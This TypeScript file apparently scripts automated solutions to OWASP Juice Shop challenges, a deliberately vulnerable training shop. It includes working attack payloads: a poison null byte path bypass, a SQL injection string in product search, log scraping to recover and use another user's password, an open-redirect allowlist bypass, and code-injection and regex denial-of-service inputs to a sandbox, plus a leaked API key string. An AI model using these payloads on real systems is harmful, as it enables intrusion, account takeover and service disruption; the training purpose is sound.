import { createDecipheriv, createHash } from 'node:crypto';
import type { Game, Step } from './client.ts';

/**
 * files-and-ops: the /ftp folder and its poison null byte, the access logs, security.txt and its
 * advisories, the metrics, the redirect allowlist, the premium paywall, the B2B sandbox, and the
 * challenges a player solves by telling the shop what they found (a feedback comment that the
 * shop's lazy check reads on the next API request).
 */

const DOMAIN = 'juice-sh.op';
const GITHUB = 'https://github.com/juice-shop/juice-shop';
const RETIRED_BITCOIN = 'https://blockchain.info/address/1AbKfgvw9psQ41NbLi8kufDQTezwG8DRZm';

/**
 * Reads the /ftp listing until it names `name`. The shop listens before it has copied the shipped
 * files into its fresh ftp/ folder, so a listing in its first few milliseconds is empty or partial.
 */
async function ftpListing(game: Game, name: string) {
  for (const until = Date.now() + 5000; ; ) {
    const listing = (await game.ok('/ftp')).text;
    if (listing.includes(`href="/ftp/${name}"`)) return listing;
    if (Date.now() > until) throw new Error(`clue not found: ${name} in the /ftp listing`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** A file of /ftp through the poison null byte: the extension check sees `.md`, the file system the name before `%00`. */
async function nullByte(game: Game, name: string) {
  await ftpListing(game, name);
  return (await game.ok(`/ftp/${name}%2500.md`)).text;
}

/** A feedback from the contact form, its captcha answered as the form shows it. */
async function feedback(game: Game, comment: string) {
  const { json: captcha } = await game.ok('/rest/captcha');
  // rating 4: neither Zero Stars nor anything else of another area
  await game.ok('/api/Feedbacks/', { body: { comment, rating: 4, captchaId: captcha.captchaId, captcha: captcha.answer } });
}

/** The text must hold what the player found; a step fails loudly when the clue is gone. */
function expectClue(found: boolean, what: string) {
  if (!found) throw new Error(`clue not found: ${what}`);
}

const rot13 = (t: string) =>
  t.replace(/[a-z]/gi, (ch) => {
    const base = ch <= 'Z' ? 65 : 97;
    return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base);
  });

/** The fields of a security.txt, by name. */
const securityTxt = (text: string) =>
  new Map(
    text
      .trim()
      .split('\n')
      .map((line) => [line.slice(0, line.indexOf(':')), line.slice(line.indexOf(':') + 1).trim()]),
  );

/**
 * A customer of this area's own, registered once: the B2B API wants any valid JWT, and logging in
 * as a seeded user would solve that user's login challenge of another area on the way.
 */
const customers = new WeakMap<Game, Promise<string>>();
function customerToken(game: Game) {
  let token = customers.get(game);
  if (!token) {
    const email = `b2b-buyer@${DOMAIN}`;
    const password = 'orders-in-bulk-42';
    token = game
      .ok('/api/Users', { body: { email, password, passwordRepeat: password } })
      .then(async () => (await game.login(email, password)).token);
    customers.set(game, token);
  }
  return token;
}

/** A B2B order as its JSON clients send it (the sandbox evaluates `orderLinesData`). */
async function b2bOrder(game: Game, orderLinesData: string) {
  const token = await customerToken(game);
  return game.call('/b2b/v2/orders', { body: { cid: 'JS0815DE', orderLinesData }, token, headers: { accept: 'application/json' } });
}

export const steps: Step[] = [
  {
    // robots.txt names /ftp, whose listing is open
    solves: ['directoryListingChallenge'],
    run: async (game) => {
      const robots = (await game.ok('/robots.txt')).text;
      expectClue(robots.includes('/ftp'), '/ftp in robots.txt');
      await ftpListing(game, 'acquisitions.md');
      await game.ok('/ftp/acquisitions.md');
    },
  },
  {
    // the encryptor itself, the first file the null byte gets past the extension check
    solves: ['nullByteChallenge'],
    run: async (game) => {
      await nullByte(game, 'encrypt.pyc');
    },
  },
  {
    solves: ['forgottenDevBackupChallenge'],
    run: async (game) => {
      JSON.parse(await nullByte(game, 'package.json.bak'));
    },
  },
  {
    solves: ['forgottenBackupChallenge'],
    run: async (game) => {
      await nullByte(game, 'coupons_2013.md.bak');
    },
  },
  {
    solves: ['misplacedSignatureFileChallenge'],
    run: async (game) => {
      await nullByte(game, 'suspicious_errors.yml');
    },
  },
  {
    solves: ['easterEggLevelOneChallenge'],
    run: async (game) => {
      await nullByte(game, 'eastere.gg');
    },
  },
  {
    // the egg holds the hidden address as base64 of its ROT13
    solves: ['easterEggLevelTwoChallenge'],
    run: async (game) => {
      const egg = await nullByte(game, 'eastere.gg');
      const encoded = /[A-Za-z0-9+/]{40,}={0,2}/.exec(egg)?.[0];
      expectClue(!!encoded, 'the encoded address in eastere.gg');
      const hidden = rot13(Buffer.from(encoded!, 'base64').toString());
      expectClue(hidden.startsWith('/the/devs/'), `a decoded address (${hidden})`);
      await game.ok(hidden);
    },
  },
  {
    // the developer backup's manifest names the typosquatted ORM wrapper
    solves: ['typosquattingNpmChallenge'],
    run: async (game) => {
      const manifest = JSON.parse(await nullByte(game, 'package.json.bak'));
      expectClue('epilogue-js' in manifest.dependencies, 'epilogue-js in package.json.bak');
      await feedback(game, 'Your backup manifest depends on epilogue-js, a typosquat of epilogue!');
    },
  },
  {
    // the same manifest pins a sanitizer version with known XSS advisories
    solves: ['knownVulnerableComponentChallenge'],
    run: async (game) => {
      const manifest = JSON.parse(await nullByte(game, 'package.json.bak'));
      const version = manifest.dependencies['sanitize-html'];
      expectClue(version === '1.4.2', 'sanitize-html 1.4.2 in package.json.bak');
      await feedback(game, `You still use sanitize-html ${version}, which has known vulnerabilities.`);
    },
  },
  {
    // the shipped frontend's third-party licenses list a typosquat of ngx-cookie
    solves: ['typosquattingAngularChallenge'],
    run: async (game) => {
      const licenses = (await game.ok('/3rdpartylicenses.txt')).text;
      expectClue(licenses.includes('ngy-cookie'), 'ngy-cookie in 3rdpartylicenses.txt');
      await feedback(game, 'Your frontend bundles ngy-cookie, a typosquat of ngx-cookie.');
    },
  },
  {
    // the dev dependency eslint-scope was hit by the 2018 credential-stealing release
    solves: ['supplyChainAttackChallenge'],
    run: async (game) => {
      await feedback(game, 'Beware of the compromised linter dependency: https://github.com/eslint/eslint-scope/issues/39');
    },
  },
  {
    // the 2013 coupons are z85-encoded, not encrypted
    solves: ['weirdCryptoChallenge'],
    run: async (game) => {
      await feedback(game, 'Your coupon codes are merely z85 encoded, that is no crypto at all.');
    },
  },
  {
    // a face hidden by steganography in an About-page carousel picture
    solves: ['hiddenImageChallenge'],
    run: async (game) => {
      await feedback(game, 'I found Pickle Rick hidden in one of your pictures!');
    },
  },
  {
    // the key leaked by the shop's social-media bot
    solves: ['leakedApiKeyChallenge'],
    run: async (game) => {
      await feedback(game, 'Your API key 6PPi37DBxP4lDwlriuaxP15HaDJpsUXY5TspVmie is out in the open.');
    },
  },
  {
    // the search's SQL injection shows the removed unsafe juice, whose ingredients leaked on a paste site
    solves: ['dlpPastebinDataLeakChallenge'],
    run: async (game) => {
      const { json } = await game.ok(`/rest/products/search?q=${encodeURIComponent("'))--")}`);
      const names = (json.data as Array<{ name: string }>).map((p) => p.name);
      expectClue(names.includes('Rippertuer Special Juice'), 'the removed product in the search');
      await feedback(game, 'Rippertuer Special Juice contains Hueteroneel and Eurogium Edule, both unsafe!');
    },
  },
  {
    solves: ['securityPolicyChallenge'],
    run: async (game) => {
      await game.ok('/.well-known/security.txt');
    },
  },
  {
    // security.txt -> CSAF provider metadata -> the express-jwt advisory, whose SHA-512 the player reports
    solves: ['csafChallenge'],
    run: async (game) => {
      const local = (url: string) => new URL(url).pathname;
      const csaf = securityTxt((await game.ok('/security.txt')).text).get('CSAF');
      expectClue(!!csaf, 'a CSAF field in security.txt');
      const { json: metadata } = await game.ok(local(csaf!));
      const directory = local(metadata.distributions[0].directory_url);
      const index = (await game.ok(`${directory}index.txt`)).text.trim().split('\n');
      const advisory = index.find((a) => a.includes('express-jwt'));
      expectClue(!!advisory, 'the express-jwt advisory in index.txt');
      const res = await game.fetch(directory + advisory);
      const hash = createHash('sha512')
        .update(Buffer.from(await res.arrayBuffer()))
        .digest('hex');
      await feedback(game, `You are affected by advisory ${hash}`);
    },
  },
  {
    // the support team's log folder is served, listing and files
    solves: ['accessLogDisclosureChallenge'],
    run: async (game) => {
      const listing = (await game.ok('/support/logs')).text;
      const file = /href="(\/support\/logs\/access\.log\.[^"]+)"/.exec(listing)?.[1];
      expectClue(!!file, 'an access log in the listing');
      await game.ok(file!);
    },
  },
  {
    // a password change by GET left the new password in the log; it is J12934's
    solves: ['dlpPasswordSprayingChallenge'],
    run: async (game) => {
      const listing = (await game.ok('/support/logs')).text;
      let password: string | undefined;
      for (const [, file] of listing.matchAll(/href="(\/support\/logs\/access\.log\.[^"]+)"/g)) {
        const log = (await game.ok(file!)).text;
        const query = /"GET \/rest\/user\/change-password\?(\S+) HTTP/.exec(log)?.[1];
        password = query ? (new URLSearchParams(query).get('new') ?? undefined) : undefined;
        if (password) break;
      }
      expectClue(!!password, 'a change-password request in the access logs');
      await game.login(`J12934@${DOMAIN}`, password!);
    },
  },
  {
    // scraped by a browser rather than Prometheus
    solves: ['exposedMetricsChallenge'],
    run: async (game) => {
      await game.ok('/metrics', { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' } });
    },
  },
  {
    solves: ['redirectCryptoCurrencyChallenge'],
    run: async (game) => {
      const res = await game.fetch(`/redirect?to=${encodeURIComponent(RETIRED_BITCOIN)}`);
      if (res.status !== 302) throw new Error(`redirect answered ${res.status}`);
    },
  },
  {
    // the allowlist only checks that an allowed address appears somewhere in the target
    solves: ['redirectChallenge'],
    run: async (game) => {
      const res = await game.fetch(`/redirect?to=${encodeURIComponent(`https://owasp.org?x=${GITHUB}`)}`);
      if (res.status !== 302) throw new Error(`redirect answered ${res.status}`);
    },
  },
  {
    // the challenge description hides an AES ciphertext in a comment; the key is in /encryptionkeys
    solves: ['premiumPaywallChallenge'],
    run: async (game) => {
      const { json } = await game.ok('/api/Challenges/?key=premiumPaywallChallenge');
      const ciphertext = /<!--(.+?)-->/.exec(json.data[0].description as string)?.[1];
      expectClue(!!ciphertext, 'the comment in the description');
      const listing = (await game.ok('/encryptionkeys/')).text;
      expectClue(listing.includes('premium.key'), 'premium.key in /encryptionkeys');
      const [iv, key] = (await game.ok('/encryptionkeys/premium.key')).text.trim().split('.');
      const padded = (hex: string, size: number) => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(size)]).subarray(0, size);
      const decipher = createDecipheriv('aes-256-cbc', padded(key!, 32), padded(iv!, 16));
      const hidden = (decipher.update(ciphertext!, 'base64', 'utf8') + decipher.final('utf8')).trim();
      await game.ok(hidden);
    },
  },
  {
    // an endless loop runs into the sandbox's iteration cap
    solves: ['rceChallenge'],
    run: async (game) => {
      const r = await b2bOrder(game, '(function dos() { while(true); })()');
      if (r.status !== 500) throw new Error(`endless loop answered ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
  {
    // a catastrophic regular expression has no loop to count and runs into the 2 s timeout instead
    solves: ['rceOccupyChallenge'],
    run: async (game) => {
      const r = await b2bOrder(game, "/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaa')");
      if (r.status !== 503) throw new Error(`catastrophic regex answered ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
];
